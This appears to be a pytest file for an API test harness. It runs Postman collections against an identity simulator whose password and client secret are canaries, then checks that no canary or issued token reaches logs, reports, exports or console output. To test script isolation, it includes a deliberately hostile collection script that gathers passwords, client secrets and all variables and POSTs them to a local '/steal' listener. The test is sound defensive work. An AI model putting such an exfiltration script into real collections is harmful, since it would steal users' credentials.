"""Issue 14 "Done when": the canary run. The real front-ends (``harness test`` and ``harness run``, as
subprocesses) run every suite, every shipped collection and a collection that keeps refresh/access
tokens in variables (sent back in URL, header and body) against a simulator whose password and client
secret are canaries, with DEBUG logging, ``--log-file``, JUnit/HTML/summary reports, exported
environments and a file token cache. Every artefact, and stdout/stderr, must hold neither canary nor
any token the simulator issued during the run (collected in this process from the simulator itself);
the token cache, whose job is to keep tokens, must hold no canary and be private to the user.

Run as ``--target live`` with a ``.env`` naming this in-process simulator: that is the only way to give
the real CLI a simulator configured with other credentials, and it is also the mode in which collection
scripts must not see ``.env`` secrets (issue 14 item 4), so the shipped collections are shown to pass
there without ``HARNESS_SCRIPT_SECRETS``.
"""

from __future__ import annotations

import json
import secrets
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.postman.test_refresh_token_variable import refresh_collection
from tests.reporting.test_main_job import REPO, clean_env

pytestmark = [pytest.mark.slow]

PASSWORD = f"CANARY-pw-{secrets.token_hex(8)}"
CLIENT_SECRET = f"CANARY-secret-{secrets.token_hex(8)}"
SHIPPED = sorted((REPO / "collections").glob("*.postman_collection.json"))


class Issued:
    """Every token the simulator hands out while the run lasts (kept in memory only)."""

    def __init__(self) -> None:
        self.tokens: set[str] = set()

    def spy(self, monkeypatch: pytest.MonkeyPatch) -> None:
        from simulator.identity.provider import IdentityProvider
        from simulator.identity.tokens import TokenIssuer

        def wrap(owner, name, pick):
            original = getattr(owner, name)

            def spied(*args, **kwargs):
                value = original(*args, **kwargs)
                self.tokens.add(pick(value))
                return value

            monkeypatch.setattr(owner, name, spied)

        wrap(TokenIssuer, "access_token", lambda issued: issued.token)
        wrap(TokenIssuer, "id_token_v1", str)
        wrap(TokenIssuer, "id_token_v2", str)
        wrap(IdentityProvider, "issue_refresh_token", str)
        wrap(IdentityProvider, "issue_code", str)


@pytest.fixture
def canary_sim(monkeypatch):
    from simulator.config import CONFIDENTIAL_CLIENT_ID, PUBLIC_CLIENT_ID, SimClient, SimConfig, SimUser
    from simulator.server import SimulatorServer

    issued = Issued()
    issued.spy(monkeypatch)
    config = SimConfig(users=[SimUser("admin@contoso.onmicrosoft.com", password=PASSWORD,
                                      object_id="7a9d0000-0000-4000-8000-000000000001",
                                      given_name="Ada", family_name="Admin")],
                       clients=[SimClient(PUBLIC_CLIENT_ID, public=True),
                                SimClient(CONFIDENTIAL_CLIENT_ID, secret=CLIENT_SECRET, public=True,
                                          service_principal_id="5e7e0000-0000-4000-8000-000000000001")])
    with SimulatorServer(config) as server:
        yield server, issued


def _env_file(path: Path, sim, cache: Path) -> None:
    from simulator.config import CONFIDENTIAL_CLIENT_ID, PUBLIC_CLIENT_ID

    c = sim.config
    path.write_text("\n".join([
        f"HARNESS_TOKEN_CACHE={cache}", f"TENANT_ID={c.tenant_id}", f"AUTHORITY={c.login_url}",
        f"CRM_URL={c.crm_url}", f"CRM_CLIENT_ID={PUBLIC_CLIENT_ID}", "CRM_USERNAME=admin@contoso.onmicrosoft.com",
        f"CRM_PASSWORD={PASSWORD}",
        f"FNO_URL={c.fno_url}", f"FNO_CLIENT_ID={CONFIDENTIAL_CLIENT_ID}", f"FNO_CLIENT_SECRET={CLIENT_SECRET}",
        f"BC_URL={c.bc_url}", f"BC_CLIENT_ID={CONFIDENTIAL_CLIENT_ID}", f"BC_CLIENT_SECRET={CLIENT_SECRET}",
    ]) + "\n")


EXFILTRATE_SCRIPT = """
const seen = {password: pm.variables.get('password'), client_secret: pm.variables.get('client_secret'),
              CRM_PASSWORD: pm.variables.get('CRM_PASSWORD'), FNO_CLIENT_SECRET: pm.variables.get('FNO_CLIENT_SECRET'),
              replaced: pm.variables.replaceIn('{{password}} {{client_secret}} {{CRM_PASSWORD}}'),
              all: pm.variables.toObject(), request: pm.request.toJSON()};
pm.sendRequest({url: 'LISTENER/steal', method: 'POST', body: {mode: 'raw', raw: JSON.stringify(seen)}}, function () {});
"""


def exfiltrating_collection(listener: str) -> dict:
    """A collection whose scripts try to send every secret they can reach to a foreign host."""
    script = EXFILTRATE_SCRIPT.replace("LISTENER", listener).splitlines()
    return {"info": {"name": "Exfiltrate", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
            "item": [{"name": "Sign in and leak", "event": [
                {"listen": "prerequest", "script": {"exec": script}},
                {"listen": "test", "script": {"exec": [*script, "pm.test('signed in', () => pm.response.to.have.status(200));"]}}],
                "request": {"method": "POST", "url": "{{token_url}}", "auth": {"type": "noauth"},
                            "body": {"mode": "urlencoded", "urlencoded": [
                                {"key": "grant_type", "value": "password"}, {"key": "client_id", "value": "{{client_id}}"},
                                {"key": "resource", "value": "{{crm_url}}"}, {"key": "username", "value": "{{username}}"},
                                {"key": "password", "value": "{{password}}"}]}}}]}


@pytest.fixture
def listener():
    """A foreign host on loopback that keeps what it receives."""
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from tests.postman.helpers import LocalServer

    received: list[str] = []

    async def steal(request):
        received.append((await request.body()).decode("utf-8", "replace"))
        return JSONResponse({})

    server = LocalServer(Starlette(routes=[Route("/steal", steal, methods=["POST"])])).start()
    yield server.url, received
    server.stop()


def _harness(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "harness.cli", *args], cwd=cwd, text=True, capture_output=True,
                          env=env, timeout=540)


def _hits(text: str, needles: dict[str, str]) -> list[str]:
    return [label for label, needle in needles.items() if needle in text]


def test_a_full_live_run_writes_no_canary_and_no_issued_token(tmp_path: Path, canary_sim, listener):
    sim, issued = canary_sim
    secret_env = tmp_path / "secret"  # the one place the canaries are meant to be: not scanned
    secret_env.mkdir()
    env_file = secret_env / ".env"
    cache = tmp_path / "cache" / "tokens.json"
    _env_file(env_file, sim, cache)
    extra = tmp_path / "extra" / "refresh-in-variables.postman_collection.json"
    extra.parent.mkdir()
    extra.write_text(json.dumps(refresh_collection()))
    listener_url, stolen = listener
    exfiltrate = tmp_path / "extra" / "exfiltrate.postman_collection.json"
    exfiltrate.write_text(json.dumps(exfiltrating_collection(listener_url)))
    env = clean_env(tmp_path)
    env.pop("HARNESS_SCRIPT_SECRETS", None)

    main = _harness(tmp_path, env, "test", "--target", "live", "--env-file", str(env_file),
                    "--collections", str(REPO / "collections"), str(extra), str(exfiltrate), "--reports", "out",
                    "--cassette-dir", "cass", "--", "--log-level=DEBUG", f"--log-file={tmp_path / 'log' / 'debug.log'}",
                    "--log-file-level=DEBUG", "-rA", "-o", "junit_logging=all", "-p", "no:randomly")
    outputs = {"harness test": main.stdout + main.stderr}
    assert main.returncode == 0, main.stdout[-4000:] + main.stderr[-3000:]
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert summary["target"] == "live"
    assert summary["totals"]["failed"] == summary["totals"]["errors"] == 0
    assert summary["totals"]["passed"] == summary["totals"]["tests"] >= 100
    cases = ET.parse(tmp_path / "out" / "junit.xml").getroot().iter("testcase")
    ran = {(case.get("classname"), case.get("name")) for case in cases}
    assert any(cls.startswith("tests.suites.") for cls, _ in ran)
    for path in SHIPPED:  # every shipped collection ran, in live mode, without HARNESS_SCRIPT_SECRETS
        assert any(cls.startswith(f"collections.{path.name}") for cls, _ in ran), path.name
    assert {"Get token", "Use it"} <= {name for _, name in ran}  # the refresh-token collection

    assert "Sign in and leak" in {name for _, name in ran}  # the exfiltrating collection ran under pytest
    for collection in [*SHIPPED, extra, exfiltrate]:
        stem = collection.name.split(".")[0]
        run = _harness(tmp_path, env, "run", str(collection), "--target", "live", "--env-file", str(env_file),
                       "--export-environment", f"exports/{stem}.environment.json",
                       "--export-globals", f"exports/{stem}.globals.json", "-r", "cli,json,junit,html",
                       "--reporter-json-export", f"exports/{stem}.json",
                       "--reporter-junit-export", f"exports/{stem}.xml",
                       "--reporter-html-export", f"exports/{stem}.html")
        outputs[f"harness run {collection.name}"] = run.stdout + run.stderr
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]

    # the run really produced each kind of artefact the scan is meant to cover
    for produced in ("out/junit.xml", "out/report.html", "out/summary.json", "log/debug.log",
                     "exports/refresh-in-variables.environment.json", "cache/tokens.json"):
        assert (tmp_path / produced).is_file(), produced
    assert list((tmp_path / "cass").rglob("*.json")) or list((tmp_path / "cass").rglob("*.yaml"))
    assert "DEBUG" in (tmp_path / "log" / "debug.log").read_text()
    assert len(issued.tokens) >= 10, len(issued.tokens)  # access, refresh and id tokens of every sign-in

    needles = {"password canary": PASSWORD, "client-secret canary": CLIENT_SECRET}
    needles |= {f"issued token #{i} ({token[:6]}…)": token for i, token in enumerate(sorted(issued.tokens))}
    canaries = {"password canary": PASSWORD, "client-secret canary": CLIENT_SECRET}
    leaks = []
    for path in sorted(p for p in tmp_path.rglob("*") if p.is_file() and secret_env not in p.parents):
        text = path.read_bytes().decode("utf-8", "replace")
        # The token cache is the one store whose job is to keep issued tokens (like MSAL's): it is
        # private (0600) and must never hold a password or client secret; everything else holds neither.
        cached = path.parent == cache.parent
        leaks += [f"{path.relative_to(tmp_path)}: {label}" for label in _hits(text, canaries if cached else needles)]
    assert cache.stat().st_mode & 0o077 == 0
    for name, text in outputs.items():
        leaks += [f"{name} stdout/stderr: {label}" for label in _hits(text, needles)]
    # the scripts' attempts reached the foreign host (2 scripts x pytest and harness run), holding no secret
    assert len(stolen) >= 4, stolen
    leaks += [f"sent to the foreign host: {label}" for body in stolen for label in _hits(body, needles)]
    assert "a host outside the collection's targets" in outputs["harness run exfiltrate.postman_collection.json"]
    assert leaks == [], "\n".join(leaks)


def test_the_scan_would_see_a_leak(tmp_path):
    """The detector is not vacuous: a token written by a run is found by the same comparison."""
    token = "eyJ0eXAiOiJKV1QifQ." + secrets.token_urlsafe(24)
    (tmp_path / "x.log").write_text(f"DEBUG refresh {token}\n")
    assert _hits((tmp_path / "x.log").read_text(), {"t": token, "p": PASSWORD}) == ["t"]

